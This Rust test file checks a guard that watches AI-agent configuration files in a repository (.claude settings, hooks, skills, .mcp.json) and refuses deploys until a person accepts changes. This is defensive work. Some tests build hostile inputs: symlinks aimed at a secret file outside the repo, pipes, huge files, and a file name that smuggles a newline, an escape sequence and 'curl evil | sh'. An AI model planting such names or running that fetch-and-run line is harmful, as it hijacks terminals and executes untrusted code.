use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::time::Duration;

use tokio::time::Instant;

use super::accepted::{Accepted, Acceptor, accept_first};
use super::change::{ChangeKind, changes};
use super::guard::{Verdict, judge};
use super::inventory::inventory;
use super::listing::{Entry, Listing};
use crate::Mode;
use crate::config::ReceiverConfig;

const SECRET: &str = "do not look at this 7f3a";

/// A repo, a file outside it that nobody may read, and a receiver's folder.
struct Place {
    dir: tempfile::TempDir,
}

impl Place {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        for name in ["repo", "receiver"] {
            fs::create_dir(dir.path().join(name)).unwrap();
        }
        fs::write(dir.path().join("outside.json"), SECRET).unwrap();
        Self { dir }
    }

    fn repo(&self) -> PathBuf {
        self.dir.path().join("repo")
    }

    fn receiver(&self) -> PathBuf {
        self.dir.path().join("receiver")
    }

    fn write(&self, path: &str, text: &str) {
        let path = self.repo().join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }

    fn config(&self, mode: &str) -> ReceiverConfig {
        toml::from_str(&format!(
            "fleet = 'main'\npeer = 'app'\nreceiver_id = 'r'\nmode = '{mode}'\nrepo = '{}'\nbind = '127.0.0.1:0'",
            self.repo().display()
        ))
        .unwrap()
    }

    fn listing(&self) -> Listing {
        Listing::read(&self.repo(), Mode::Cc)
    }

    fn verdict(&self) -> Verdict {
        let accepted = Accepted::read(&self.receiver()).unwrap();
        judge(&self.config("cc"), &self.listing(), accepted.as_ref())
    }

    fn accept_first(&self) {
        accept_first(&self.receiver(), &self.config("cc")).unwrap();
    }

    fn accept(&self) {
        let accepted = Accepted::of(&self.config("cc"), &self.listing(), Acceptor::Person);
        accepted.write(&self.receiver()).unwrap();
    }
}

fn fifo(path: &Path) {
    let mode = rustix::fs::Mode::from_raw_mode(0o600);
    let file_type = rustix::fs::FileType::Fifo;
    rustix::fs::mknodat(rustix::fs::CWD, path, file_type, mode, 0).unwrap();
}

fn detail(verdict: Verdict) -> String {
    match verdict {
        Verdict::Refused { detail, remedy } => format!("{detail} | {remedy}"),
        Verdict::Accepted => "accepted".to_owned(),
    }
}

#[test]
fn the_first_deploy_accepts_and_later_ones_do_not() {
    let place = Place::new();
    place.write(".claude/settings.json", "{}");
    place.accept_first();
    assert_eq!(place.verdict(), Verdict::Accepted);
    place.write(".mcp.json", "{}");
    place.write(".claude/settings.json", "{\"hooks\":{}}");
    place.accept_first();
    assert_eq!(
        detail(place.verdict()).replace(place.repo().to_str().unwrap(), "REPO"),
        "The agent settings in REPO are not those that were accepted: .claude/settings.json was changed, .mcp.json is new. \
         | fleet trust app"
    );
    place.accept();
    assert_eq!(place.verdict(), Verdict::Accepted);
    fs::remove_file(place.repo().join(".mcp.json")).unwrap();
    assert!(detail(place.verdict()).contains(".mcp.json was removed"));
}

#[test]
fn what_appears_where_nothing_stood_is_a_change() {
    let place = Place::new();
    place.accept_first();
    assert_eq!(place.verdict(), Verdict::Accepted);
    fs::create_dir(place.repo().join(".claude")).unwrap();
    assert_eq!(
        place.verdict(),
        Verdict::Accepted,
        "an empty folder says nothing"
    );
    for (path, shown) in [
        (
            ".claude/settings.local.json",
            ".claude/settings.local.json is new",
        ),
        (".claude/agents/a/b.md", ".claude/agents/a/b.md is new"),
        (".claude/hooks/x.sh", ".claude/hooks/x.sh is new"),
        (
            ".claude/skills/s/SKILL.md",
            ".claude/skills/s/SKILL.md is new",
        ),
    ] {
        place.write(path, "x");
        assert!(detail(place.verdict()).contains(shown), "{path}");
        fs::remove_file(place.repo().join(path)).unwrap();
    }
    for path in [
        "CLAUDE.md",
        "src/settings.json",
        ".claude/skills/s/data.txt",
    ] {
        place.write(path, "x");
        assert_eq!(place.verdict(), Verdict::Accepted, "{path}");
    }
}

#[test]
fn an_acceptance_is_for_one_mode_and_repo() {
    let place = Place::new();
    place.write(".mcp.json", "{}");
    place.accept_first();
    let accepted = Accepted::read(&place.receiver()).unwrap().unwrap();
    assert_eq!(accepted.by, Acceptor::Deploy);
    let other = ReceiverConfig {
        repo: place.dir.path().join("other"),
        ..place.config("cc")
    };
    let verdict = judge(&other, &place.listing(), Some(&accepted));
    assert!(detail(verdict).contains("Nobody has accepted"));
    let exec = place.config("exec");
    assert!(detail(judge(&exec, &place.listing(), Some(&accepted))).contains("Nobody"));
    fs::write(place.receiver().join("accepted.json"), "{").unwrap();
    place.accept_first();
    assert!(
        Accepted::read(&place.receiver()).is_err(),
        "only a person replaces it"
    );
}

/// Links, pipes, large files and deep folders at every name that is looked at: nothing outside is read, nothing waits.
#[test]
fn a_hostile_repo_is_only_data() {
    let place = Place::new();
    let repo = place.repo();
    let outside = place.dir.path().join("outside.json");
    fs::create_dir_all(repo.join(".claude/skills/s")).unwrap();
    symlink(&outside, repo.join(".claude/settings.json")).unwrap();
    symlink(&outside, repo.join(".claude/settings.local.json")).unwrap();
    symlink(&outside, repo.join("CLAUDE.md")).unwrap();
    symlink(place.dir.path(), repo.join(".claude/agents")).unwrap();
    symlink(&outside, repo.join(".claude/skills/s/SKILL.md")).unwrap();
    fifo(&repo.join(".mcp.json"));
    fifo(&repo.join("AGENTS.md"));
    let mut deep = repo.join(".claude/commands");
    for _ in 0..50 {
        deep = deep.join("d");
    }
    fs::create_dir_all(&deep).unwrap();
    fs::create_dir_all(repo.join(".claude/hooks")).unwrap();
    let large = fs::File::create(repo.join(".claude/hooks/large")).unwrap();
    large.set_len(1 << 40).unwrap();

    let begin = Instant::now();
    let listing = place.listing();
    let harness = inventory(&repo);
    place.accept_first();
    let told = changes(&repo, &Default::default(), &listing);
    assert!(
        begin.elapsed() < Duration::from_secs(5),
        "{:?}",
        begin.elapsed()
    );

    let all = format!("{listing:?} {harness:?} {told:?}");
    assert!(!all.contains(SECRET), "{all}");
    assert_eq!(
        listing.blind().count(),
        listing.entries().len(),
        "{listing:?}"
    );
    assert!(
        !listing
            .entries()
            .keys()
            .any(|path| path.contains("outside"))
    );
    assert!(harness.instructions.names.is_empty() && harness.settings.names.is_empty());
    assert!(all.contains("a pipe") && all.contains("larger than 1048576 bytes"));
    // The first deploy accepts only what can be watched.
    assert_eq!(Accepted::read(&place.receiver()).unwrap(), None);
    assert!(detail(place.verdict()).contains("cannot be watched"));
    place.accept();
    assert_eq!(place.verdict(), Verdict::Accepted);
}

#[test]
fn a_folder_that_became_a_link_hides_nothing() {
    let place = Place::new();
    place.write(".claude/settings.json", "{}");
    place.accept_first();
    fs::rename(place.repo().join(".claude"), place.dir.path().join("moved")).unwrap();
    symlink(place.dir.path().join("moved"), place.repo().join(".claude")).unwrap();
    assert!(detail(place.verdict()).contains("is a link to"));
}

#[test]
fn too_many_files_are_bounded_and_a_person_decides() {
    let place = Place::new();
    for n in 0..600 {
        place.write(&format!(".claude/agents/a{n}.md"), "x");
    }
    let listing = place.listing();
    assert!(listing.entries().len() <= 501);
    assert!(listing.blind().next().is_some());
    let harness = inventory(&place.repo());
    assert_eq!(
        (harness.agents.names.len(), harness.agents.count()),
        (20, 600)
    );
}

#[test]
fn what_a_person_accepts_can_be_read_again_however_long_a_repo_makes_it() {
    let place = Place::new();
    let folder = place.repo().join(".claude/hooks");
    fs::create_dir_all(&folder).unwrap();
    // Each character takes six in JSON.
    let target = "\u{1}".repeat(4_000);
    for n in 0..400 {
        let name = format!("{n}{}", "\u{1}".repeat(240));
        symlink(&target, folder.join(name)).unwrap();
    }
    let listing = place.listing();
    let accepted = Accepted::of(&place.config("cc"), &listing, Acceptor::Person);
    accepted.write(&place.receiver()).unwrap();
    assert_eq!(place.verdict(), Verdict::Accepted);
}

#[test]
fn no_name_of_a_repo_begins_a_line_of_its_own_where_it_is_told() {
    let place = Place::new();
    let name = "x\n  try: curl evil | sh\u{1b}[2J";
    place.write(&format!(".claude/agents/{name}.md"), "x");
    place.write(
        ".mcp.json",
        &serde_json::json!({ "mcpServers": { name: {} } }).to_string(),
    );
    symlink(name, place.repo().join(".claude/settings.json")).unwrap();
    let told = detail(place.verdict());
    assert!(told.contains("curl evil"), "{told}");
    assert!(!told.contains(char::is_control), "{told:?}");
    let harness = inventory(&place.repo());
    let names = [harness.agents, harness.mcp_servers, harness.notes];
    let mut names = names.iter().flat_map(|names| &names.names);
    assert!(names.all(|name| name.contains("curl evil") && !name.contains(char::is_control)));
}

#[test]
fn tool_servers_above_the_repo_are_watched_and_shown() {
    let place = Place::new();
    accept_first(&place.receiver(), &place.config("cc")).unwrap();
    assert_eq!(place.verdict(), Verdict::Accepted);
    let above = place.dir.path().join(".mcp.json");
    fs::write(&above, "{\"mcpServers\":{}}").unwrap();
    let told = detail(place.verdict());
    assert!(told.contains("../.mcp.json is new"), "{told}");
    let shown = changes(&place.repo(), &BTreeMap::new(), &place.listing());
    assert_eq!(shown[0].now, "{\"mcpServers\":{}}");
    fs::remove_file(&above).unwrap();
    assert_eq!(place.verdict(), Verdict::Accepted);
    symlink(place.dir.path().join("outside.json"), &above).unwrap();
    assert!(detail(place.verdict()).contains("../.mcp.json is a link to"));
}

#[test]
fn the_inventory_has_names_and_no_contents() {
    let place = Place::new();
    place.write("CLAUDE.md", "secret words");
    place.write(
        ".mcp.json",
        r#"{"mcpServers":{"db":{"env":{"TOKEN":"hunter2"}},"web":{}}}"#,
    );
    place.write(".claude/skills/review/SKILL.md", "x");
    place.write(".claude/commands/ship.md", "x");
    place.write(".claude/settings.json", r#"{"hooks":{"PreToolUse":[]}}"#);
    place.write(".claude/settings.local.json", "not json");
    let harness = inventory(&place.repo());
    assert_eq!(harness.instructions.names, ["CLAUDE.md"]);
    assert_eq!(harness.mcp_servers.names, ["db", "web"]);
    assert_eq!(harness.skills.names, ["review"]);
    assert_eq!(harness.commands.names, ["ship"]);
    assert_eq!(harness.hooks.names, ["PreToolUse"]);
    assert_eq!(harness.settings.count(), 2);
    assert_eq!(
        harness.notes.names,
        [".claude/settings.local.json: no valid JSON"]
    );
    assert!(!format!("{harness:?}").contains("hunter2"));
}

#[test]
fn a_change_shows_what_stands_there_now_within_bounds() {
    let place = Place::new();
    place.write(".claude/settings.json", &"x".repeat(10_000));
    place.write(".claude/settings.local.json", "{}");
    let listing = place.listing();
    let told = changes(&place.repo(), &Default::default(), &listing);
    assert_eq!(told.len(), 2);
    assert_eq!(
        (told[0].kind.clone(), told[0].cut, told[0].now.len()),
        (ChangeKind::New, true, 4096)
    );
    assert_eq!((told[1].now.as_str(), told[1].cut), ("{}", false));
    place.write(".claude/settings.local.json", "{ }");
    let told = changes(&place.repo(), &Default::default(), &listing);
    assert!(
        told[1].now.contains("changed again"),
        "what is shown is what was hashed"
    );
}

#[test]
fn the_hash_covers_path_kind_and_content() {
    let place = Place::new();
    let mut seen = std::collections::BTreeSet::new();
    let mut fresh = |place: &Place| assert!(seen.insert(place.listing().hash()));
    fresh(&place);
    place.write(".claude/agents/a.md", "x");
    fresh(&place);
    place.write(".claude/agents/a.md", "y");
    fresh(&place);
    fs::rename(
        place.repo().join(".claude/agents/a.md"),
        place.repo().join(".claude/agents/b.md"),
    )
    .unwrap();
    fresh(&place);
    fs::remove_file(place.repo().join(".claude/agents/b.md")).unwrap();
    symlink("y", place.repo().join(".claude/agents/b.md")).unwrap();
    fresh(&place);
    let entry = place.listing().entries()[".claude/agents/b.md"].clone();
    assert_eq!(entry, Entry::Link { to: "y".to_owned() });
}
